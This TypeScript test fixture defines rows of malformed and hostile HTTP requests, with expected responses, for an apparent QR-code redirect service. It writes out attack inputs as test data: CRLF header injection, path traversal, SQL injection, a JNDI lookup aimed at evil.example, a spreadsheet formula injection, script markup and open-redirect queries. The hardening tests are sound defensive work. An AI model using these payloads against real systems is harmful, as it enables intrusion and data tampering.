import { en } from '../../src/redirect/translations.ts';
import { iPhoneSafari } from '../support/share.ts';

/** The expected response: status, a part of the page, headers. */
interface LaneExpectation {
  status: number;
  says?: string;
  headers?: Record<string, string>;
  /** Whether it is counted as a scan. */
  isScan?: true;
}

export interface LaneRow {
  name: string;
  method?: string;
  /** Below `/r/`, unless it is the whole one. `:link` and the like are the tokens of the codes of the test. */
  path: string;
  isWhole?: true;
  headers?: [name: string, value: string][];
  body?: string;
  gets: LaneExpectation;
}

const target = 'https://example.com/target';
const leads: LaneExpectation = { status: 302, headers: { Location: target, 'Cache-Control': 'no-store' } };
const scan: LaneExpectation = { ...leads, isScan: true };
const missing: LaneExpectation = { status: 404, says: en.notFound.title };
const notTaken: LaneExpectation = { status: 405, says: en.method.title, headers: { Allow: 'GET, HEAD' } };
const picture = (type: string): LaneExpectation => ({ status: 200, headers: { 'Content-Type': type } });
const svg = picture('image/svg+xml; charset=utf-8');
const badEncode: LaneExpectation = {
  status: 400,
  says: 'encode must be content, or be omitted for the share link.',
};
const known: LaneExpectation = { status: 304, headers: { 'Cache-Control': 'public, max-age=300' } };

const at = (name: string, path: string, gets: LaneExpectation): LaneRow => ({ name, path, gets });
const by = (method: string): LaneRow => ({
  name: `${method} of a code`,
  method,
  path: ':link',
  gets: notTaken,
});
const agent = (name: string, value: string, gets = scan): LaneRow => ({
  name: `a user agent: ${name}`,
  path: ':link',
  headers: [['User-Agent', value]],
  gets,
});
const from = (name: string, value: string): LaneRow => ({
  name: `an address of the client: ${name}`,
  path: ':link',
  headers: [['X-Forwarded-For', value]],
  gets: scan,
});
const image = (name: string, header: string, value: string, gets: LaneExpectation): LaneRow => ({
  name: `a picture, ${name}`,
  path: ':link.svg',
  headers: [[header, value]],
  gets,
});

const tokens: LaneRow[] = [
  at('no token', '', missing),
  at('a token of 9 characters', 'aaaaaaaaa', missing),
  at('a token of 11 characters', 'aaaaaaaaaaa', missing),
  at('a token of nobody', 'aaaaaaaaaa', missing),
  at('a token of 8,000 characters', 'a'.repeat(8_000), missing),
  at('a token in other letters', ':LINK', missing),
  at('a token with an encoded letter', ':encoded', missing),
  at('a token with an encoded NUL', ':link%00', missing),
  at('a token with an encoded space', ':link%20', missing),
  at('a token with an encoded line break and a header', ':link%0d%0aSet-Cookie:%20a=b', missing),
  at('a token beyond ASCII', '%C3%A9%C3%A9%C3%A9%C3%A9%C3%A9', missing),
  at('bytes that are no UTF-8', '%ff%fe%fd%fc%fb', missing),
  at('a percent sign that is none', '%', missing),
  at('full-width digits', '%EF%BC%91%EF%BC%92%EF%BC%93', missing),
  at('a way up', '../healthz', missing),
  at('an encoded way up', '..%2fhealthz', missing),
  at('a way up behind a token', ':link/../:link', missing),
  at('a slash before the token', '/:link', missing),
  at('two slashes behind the token', ':link//', missing),
  at('a semicolon behind the token', ':link;a=b', missing),
  at('a dot behind the token', ':link.', missing),
  at('SQL', "'OR'1'='1", missing),
  at('__proto__', '__proto__', missing),
  at('constructor, of 10 letters', 'prototype1', missing),
  at('a private code', ':private', missing),
  at('the picture of a private code', ':private.png', missing),
  at('an expired code', ':expired', { status: 410, says: en.expired.title }),
  at('the picture of an expired code', ':expired.svg', { status: 410, says: en.expired.title }),
  at('a slash behind the token', ':link/', scan),
  at('a query of 8 KB', `:link?${'q'.repeat(8_000)}`, scan),
  at('a query with a header in it', ':link?a=%0d%0aSet-Cookie:%20a=b', scan),
  at('a query that names another place', ':link?url=https://evil.example/&next=//evil.example', scan),
  at('a question mark alone', ':link?', scan),
  at('an address with a space and a quote', ':odd', {
    status: 302,
    headers: { Location: 'https://example.com/a%20b%22c?%C3%A9' },
    isScan: true,
  }),
  at('a text that is markup', ':text', {
    status: 200,
    says: '&lt;script&gt;alert(1)&lt;/script&gt;',
    isScan: true,
  }),
];

const pictures: LaneRow[] = [
  at('.svg', ':link.svg', svg),
  at('.png', ':link.png', picture('image/png')),
  at('.PNG', ':link.PNG', missing),
  at('.svg.png', ':link.svg.png', missing),
  at('.gif', ':link.gif', missing),
  at('.svg%00.png', ':link.svg%00.png', missing),
  at('.vcf of a link', ':link.vcf', missing),
  at('.png of nobody', 'aaaaaaaaaa.png', missing),
  at('encode without a value', ':link.svg?encode', badEncode),
  at('encode=CONTENT', ':link.svg?encode=CONTENT', badEncode),
  at('encode twice, once odd', ':link.svg?encode=content&encode=x', badEncode),
  at('encode of an address', ':link.svg?encode=https://evil.example/', badEncode),
  at('encode in brackets', ':link.svg?encode[]=x', svg),
  at('a size nobody takes', ':link.svg?size=999999999', svg),
  at('download with a header in it', ':link.svg?download=%0d%0aa:b', svg),
  image('a range of it', 'Range', 'bytes=0-0', svg),
  image('ranges without end', 'Range', `bytes=${'0-,'.repeat(2_000)}`, svg),
  image('any that is known', 'If-None-Match', '*', known),
  image('a tag that is none', 'If-None-Match', '"', svg),
  image('a thousand tags', 'If-None-Match', '"a",'.repeat(1_000), svg),
  image('known since a day that is none', 'If-Modified-Since', 'the day after', svg),
  { name: 'HEAD of a picture', method: 'HEAD', path: ':link.png', gets: picture('image/png') },
];

const asked: LaneRow[] = [
  ...['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND'].map(by),
  { name: 'POST of a picture', method: 'POST', path: ':link.png', gets: notTaken },
  { name: 'POST of nothing', method: 'POST', path: '', gets: notTaken },
  { name: 'a body of 100 KB', method: 'POST', path: ':link', body: 'x'.repeat(100_000), gets: notTaken },
  { name: 'HEAD of a code', method: 'HEAD', path: ':link', gets: leads },
  {
    name: 'another method in a header',
    path: ':link',
    headers: [['X-HTTP-Method-Override', 'DELETE']],
    gets: scan,
  },
  { name: 'another host', path: ':link', headers: [['Host', 'evil.example']], gets: scan },
  {
    name: 'two hosts',
    path: ':link',
    headers: [
      ['Host', 'evil.example'],
      ['Host', 'qr.test'],
    ],
    gets: { status: 400, says: 'more than one Host header' },
  },
  {
    name: 'a language that is none',
    path: 'aaaaaaaaaa',
    headers: [['Accept-Language', ';q=,,*-*;q=9,../../etc']],
    gets: { ...missing, headers: { 'Content-Language': 'en' } },
  },
  {
    name: 'a thousand languages',
    path: 'aaaaaaaaaa',
    headers: [['Accept-Language', 'xx;q=0.1,'.repeat(1_000)]],
    gets: { ...missing, headers: { 'Content-Language': 'en' } },
  },
  { name: 'a purpose', path: ':link', headers: [['Sec-Purpose', 'prefetch;prerender']], gets: leads },
  {
    name: 'a purpose that is none',
    path: ':link',
    headers: [['Sec-Purpose', 'x'.repeat(5_000)]],
    gets: scan,
  },
  { name: 'an expectation that nobody has', path: ':link', headers: [['Expect', 'a-pony']], gets: scan },
  { name: 'a condition', path: ':link', headers: [['If-None-Match', '*']], gets: scan },
  { name: 'the prefix in capitals', path: '/R/:link', isWhole: true, gets: { status: 404 } },
  { name: 'the prefix with an encoded slash', path: '/r%2f:link', isWhole: true, gets: { status: 404 } },
  {
    name: 'the whole address, as a proxy asks for it',
    path: 'http://qr.test/r/:link',
    isWhole: true,
    gets: scan,
  },
  {
    name: 'the whole address of another service',
    path: 'HTTPS://evil.test/r/:link',
    isWhole: true,
    gets: scan,
  },
  { name: 'an address of another kind', path: 'ftp://qr.test/r/:link', isWhole: true, gets: { status: 400 } },
  { name: 'two slashes before the prefix', path: '//r/:link', isWhole: true, gets: { status: 404 } },
];

// isbot takes these for crawlers: answered the same, and not counted.
const clients: LaneRow[] = [
  { name: 'a user agent: none', path: ':link', gets: scan },
  agent('empty', ''),
  agent('spaces', '     '),
  agent('5,000 characters', iPhoneSafari.padEnd(5_000, ' x')),
  agent('5,000 brackets', '('.repeat(5_000), leads),
  agent('tabs', 'a\tb\tc'),
  agent('bytes past ASCII', '\u00ff\u00fe\u0080\u00e9'),
  agent('markup', '<script>alert(1)</script>', leads),
  agent('a formula', '=cmd|"/c calc"!A1', leads),
  agent('SQL', "'; DROP TABLE scans; --", leads),
  agent('JSON', '{"id":1,"__proto__":{"a":1}}'),
  agent('a look-up', '${jndi:ldap://evil.example/a}'),
  agent('a crawler', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', leads),
  from('nothing', ''),
  from('commas', ',,,,,'),
  from('100 proxies', Array(100).fill('192.0.2.1').join(', ')),
  from('SQL', "192.0.2.1'; DROP TABLE scans; --"),
  from('past its end', '999.999.999.999'),
  from('a port past its end', '192.0.2.1:999999'),
  from('half a bracket', '[2001:db8::1'),
  from('a zone', 'fe80::1%eth0'),
  from('IPv4 in IPv6', '::ffff:192.0.2.1'),
  from('8 KB', '1'.repeat(8_000)),
  from('bytes past ASCII', '\u00e9.\u00e9.\u00e9.\u00e9'),
];

const whole = (name: string, path: string, gets = missing): LaneRow => ({ name, path, isWhole: true, gets });
const files: LaneRow[] = [
  whole('no token of a file', '/f/'),
  whole('the file of nobody', '/f/aaaaaaaaaa/menu.pdf'),
  whole('the file of a code without one', '/f/:link/menu.pdf'),
  whole('a file without a name', '/f/:link'),
  whole('a file below its name', '/f/:link/../../api/v1/openapi.json'),
  whole('a file with an encoded slash', '/f/:link%2fmenu.pdf'),
  whole('a file with a name of 8,000 characters', `/f/:link/${'a'.repeat(8_000)}`),
  whole('a file with a NUL and a header', '/f/:link/a%00%0d%0aSet-Cookie:%20a=b'),
  {
    ...whole('a file with a million ranges', '/f/:link/a.pdf'),
    headers: [['Range', `bytes=${'0-0,'.repeat(3_000)}`]],
  },
  { ...whole('a file that is sent', '/f/:link/a.pdf', notTaken), method: 'PUT', body: 'x' },
];

export const laneRows: LaneRow[] = [...tokens, ...pictures, ...asked, ...clients, ...files];
